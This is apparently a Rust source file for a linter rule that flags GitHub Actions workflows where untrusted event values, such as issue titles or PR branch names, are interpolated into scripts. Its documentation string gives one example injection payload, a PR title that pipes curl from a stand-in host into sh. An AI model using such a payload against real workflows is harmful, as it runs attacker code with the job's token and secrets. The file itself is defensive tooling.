//! Rule `script-injection`: a script contains an expression that outsiders can write.

use std::collections::{HashMap, HashSet};

use super::{Check, Rule};
use crate::report::{Group, Level, RuleMeta, WorkflowPlace, WorkflowProblem};
use crate::text::escape;
use crate::workflow::{
    Document, Job, Node, Pair, Step, StepEnv, TextSource, Uses, UsesClause, WorkflowSettings, has_expression,
    shorten, sources,
};

pub(crate) static RULE: Rule = Rule {
    meta: RuleMeta {
        id: "script-injection",
        group: Group::Workflow,
        default_level: Level::Warn,
        summary: "a script contains an expression that outsiders can write",
        docs: r#"### What it checks

No script, in `run` or in the input `script` of `actions/github-script`, contains an expression whose text outsiders choose. These
are the values that GitHub lists as untrusted:

- title and body of an issue, pull request, discussion, comment or review, before a change too (`changes.title.from`);
- `github.head_ref`, and branch, label, default branch, description and homepage of the head of a pull request;
- message, and name and address of author and committer, of the commits of a push;
- title, branch, message and people of the run that started a `workflow_run`; names and titles of wiki pages.

It also finds them through `env` (`${{ env.TITLE }}`), inside of `toJSON(github.event)`, and through the inputs of local actions
whose scripts contain `${{ inputs.title }}`. A value that cannot reach the script is
not reported: in a comparison, in `contains()`, or as the condition of `&&`. Neither is the branch of a pull request in a workflow that
no pull request starts.

### Why it matters

The forge puts the value into the script before a shell reads it. A pull request with the title `"; curl evil.example | sh; "` runs
that command, with the token and the secrets of the job.

### Example

Bad:

```yaml
on: issues
permissions: {}
jobs:
  greet:
    steps:
      - run: echo "${{ github.event.issue.title }}"
```

Good:

```yaml
on: issues
permissions: {}
jobs:
  greet:
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
```

### How to fix

Set a variable in `env` of the step to the expression, and write the variable in the script, in double quotes. In
`actions/github-script`, write `process.env.TITLE`, or `context.payload.issue.title` without an expression.

Other tools call this `template-injection` (zizmor, for many more expressions) and `expression` (actionlint). The list is that of
GitHub: "Secure use reference" and the queries `actions/code-injection` of CodeQL.

### Settings

```yaml
workflows:
  exempt:
    - rule: script-injection
      path: .github/workflows/greet.yml
      reason: it runs only for members
```
"#,
    },
    check: Check::Workflow(check),
};

/// Values that outsiders write; `*` stands for any part. Source: docs.github.com, "Script injections", and
/// `untrusted_event_properties.yml` of github/codeql.
///
/// Leaves out the values that only people with write access choose: the branch of a merge group, the path of a workflow.
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.head_ref",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.changes.title.from",
    "github.event.changes.body.from",
    "github.event.changes.head.ref.from",
    "github.event.pages.*.page_name",
    "github.event.pages.*.title",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.head_commit.committer.email",
    "github.event.workflow_run.head_commit.committer.name",
    "github.event.workflow_run.head_repository.description",
    "github.event.workflow_run.pull_requests.*.head.ref",
];

/// Those that only a pull request sets. Workflows on `push` often name them beside `github.ref_name`.
const BRANCHES: &[&str] = &["github.head_ref", "github.event.pull_request.head.ref"];

/// Beginnings of the events that set them, or that may have any payload.
const PULL_REQUESTS: &[&str] = &["pull_request", "workflow_call"];

/// Expression that outsiders can write, and the variable through which a script gets it.
struct Injected {
    /// The value, as GitHub names it.
    name: String,
    /// Variable of `env` that holds it; `None` if the script names the value itself.
    variable: Option<String>,
}

fn check(document: &Document, _: &WorkflowSettings) -> Vec<WorkflowProblem> {
    let events: Vec<&str> = document.model.events().filter_map(Node::text).collect();
    let root = document.model.workflow.as_deref();
    let mut read = HashMap::new();
    let mut problems = Vec::new();
    for job in &document.model.jobs {
        for step in &job.steps {
            for (clause, pair) in given(step) {
                let passed = passed(pair, step, job, root, &events);
                let through = passed.iter().filter(|_| document.puts_into_script(&clause.text, pair.name()));
                problems.extend(through.map(|value| problem_of_input(document, job, (clause, pair), value)));
            }
            let Some(script) = step.script() else { continue };
            let env = StepEnv::new(step, job, root);
            let found = read.entry((script.span, env.key()));
            let found: &Vec<Injected> =
                found.or_insert_with(|| injected(script.text().unwrap_or_default(), &env, &events));
            let is_shell = step.uses.is_none();
            problems.extend(found.iter().map(|value| problem(document, job, script, value, is_shell)));
        }
    }
    problems
}

/// Returns whether a step of a workflow gives a local action a value that outsiders can write.
pub(crate) fn passes_on(document: &Document) -> bool {
    let events: Vec<&str> = document.model.events().filter_map(Node::text).collect();
    let root = document.model.workflow.as_deref();
    let mut steps = document.model.jobs.iter().flat_map(|job| job.steps.iter().map(move |step| (job, step)));
    steps.any(|(job, step)| given(step).any(|(_, value)| !passed(value, step, job, root, &events).is_empty()))
}

/// Returns the inputs that a step gives to a local action.
fn given(step: &Step) -> impl Iterator<Item = (&UsesClause, &Pair)> {
    let clause = step.uses.as_ref().filter(|clause| clause.uses == Uses::Local);
    let pairs = step.node.get("with").and_then(|with| with.pairs()).unwrap_or_default();
    clause.into_iter().flat_map(move |clause| pairs.iter().map(move |pair| (clause, pair)))
}

/// Returns the values that outsiders can write in an input.
fn passed(pair: &Pair, step: &Step, job: &Job, root: Option<&Node>, events: &[&str]) -> Vec<Injected> {
    let text = pair.value.text().unwrap_or_default();
    if has_expression(text) { injected(text, &StepEnv::new(step, job, root), events) } else { Vec::new() }
}

/// Returns the values that outsiders can write among those that reach a script, each once.
fn injected(script: &str, env: &StepEnv<'_>, events: &[&str]) -> Vec<Injected> {
    let mut seen = HashSet::new();
    let mut injected = Vec::new();
    for source in &sources(script) {
        let direct = untrusted(source, events).map(|name| Injected { name, variable: None });
        let through_env = || {
            let variable = variable(source)?;
            let name = held(variable, env, events)?;
            Some(Injected { name, variable: Some(variable.to_owned()) })
        };
        injected.extend(direct.or_else(through_env).filter(|value| seen.insert(value.name.clone())));
    }
    injected
}

/// Returns the name of the variable of `env` that a value is; `None` for other values.
fn variable(source: &TextSource) -> Option<&str> {
    match source.path.as_slice() {
        [context, variable] if context == "env" => Some(variable),
        _ => None,
    }
}

/// Returns the value that outsiders can write and that a variable holds, directly or through variables around it.
fn held(variable_name: &str, env: &StepEnv<'_>, events: &[&str]) -> Option<String> {
    let text = env.get_ignoring_case(variable_name)?;
    let outer = env.outer();
    sources(text)
        .iter()
        .find_map(|source| untrusted(source, events).or_else(|| held(variable(source)?, &outer, events)))
}

/// Returns the name of a value if outsiders can write it, or a part of it that becomes JSON.
fn untrusted(source: &TextSource, events: &[&str]) -> Option<String> {
    let is_set = |name: &str| {
        let sets = |event: &&str| PULL_REQUESTS.iter().any(|start| event.starts_with(start));
        !BRANCHES.contains(&name) || events.is_empty() || events.iter().any(sets)
    };
    let matches = |pattern: &str| {
        let parts: Vec<&str> = pattern.split('.').collect();
        let is_long_enough =
            parts.len() == source.path.len() || source.is_json && parts.len() > source.path.len();
        is_long_enough && source.path.iter().zip(parts).all(|(part, name)| name == "*" || part == name)
    };
    let is_untrusted = UNTRUSTED.iter().any(|name| matches(name) && is_set(name));
    is_untrusted.then(|| source.path.join("."))
}

fn problem(
    document: &Document,
    job: &Job,
    script: &Node,
    value: &Injected,
    is_shell: bool,
) -> WorkflowProblem {
    let name = escape(shorten(&value.name).as_bytes());
    let message = match &value.variable {
        Some(variable) => format!(
            "the script contains `env.{}` as text, which holds `{name}`: outsiders can write it",
            escape(shorten(variable).as_bytes()).to_ascii_uppercase()
        ),
        None => format!("the script contains `{name}` as text, and outsiders can write it"),
    };
    let last = value.name.rsplit('.').find(|part| *part != "*").unwrap_or("value");
    let variable = value.variable.as_deref().unwrap_or(last).to_ascii_uppercase().replace('-', "_");
    let variable = escape(shorten(&variable).as_bytes());
    let read = if is_shell { format!("\"${variable}\"") } else { format!("process.env.{variable}") };
    let help = match &value.variable {
        Some(_) => format!("write `{read}` in the script instead of the expression"),
        None => {
            format!(
                "set `{variable}: ${{{{ {name} }}}}` under `env` of the step, and write `{read}` in the script"
            )
        }
    };
    let text = value.variable.as_ref().map_or(value.name.clone(), |variable| format!("env.{variable}"));
    WorkflowProblem {
        message,
        help: Some(help),
        notes: Vec::new(),
        place: WorkflowPlace::new(document.span_within(script.span, &text), &job.id, &value.name),
    }
}

fn problem_of_input(
    document: &Document,
    job: &Job,
    (clause, pair): (&UsesClause, &Pair),
    value: &Injected,
) -> WorkflowProblem {
    let shown = |text: &str| escape(shorten(text).as_bytes());
    let (name, input) = (shown(&value.name), shown(pair.name()));
    let text = value.variable.as_ref().map_or(value.name.clone(), |variable| format!("env.{variable}"));
    WorkflowProblem {
        message: format!(
            "`{}` puts its input `{input}` into a script as text, which gets `{name}`: outsiders can write it",
            shown(&clause.text)
        ),
        help: Some(format!(
            "let the action set a variable under `env` to `${{{{ inputs.{input} }}}}`, and write the variable in its script"
        )),
        notes: Vec::new(),
        place: WorkflowPlace::new(
            document.span_within(pair.value.span, &text),
            &job.id,
            &shorten(&format!("{} {} {}", clause.text, pair.name(), value.name)),
        ),
    }
}
